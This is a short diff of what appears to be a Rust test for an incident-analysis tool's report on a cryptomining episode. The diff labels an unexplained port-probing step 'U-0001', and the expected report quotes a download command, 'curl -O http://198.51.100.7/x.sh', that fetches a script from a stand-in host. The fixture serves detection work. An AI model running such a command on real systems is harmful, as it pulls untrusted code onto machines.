@@ -28,7 +28,7 @@ fn first_screen() {
          dispersion over runs  not asked: 2 onsets over 2 runs can reach P = 0.50 at the least.
          Before mining more often than in other episodes of the same run: program nvidia-smi in 3 of 3 against 0 of 5 (adjusted P = 0.036). It comes before, it is not shown to lead to it.
          Not explained by any step: 1.
-           probing  40 ports of 10.30.0.20 in 2.0 s  leading: external compromise
+           U-0001  probing  40 ports of 10.30.0.20 in 2.0 s  leading: external compromise
            would decide: the jump host's auth log
          Steps without coverage: 1.
            ep-001 step 2  download  no telemetry covers this time: curl -O http://198.51.100.7/x.sh
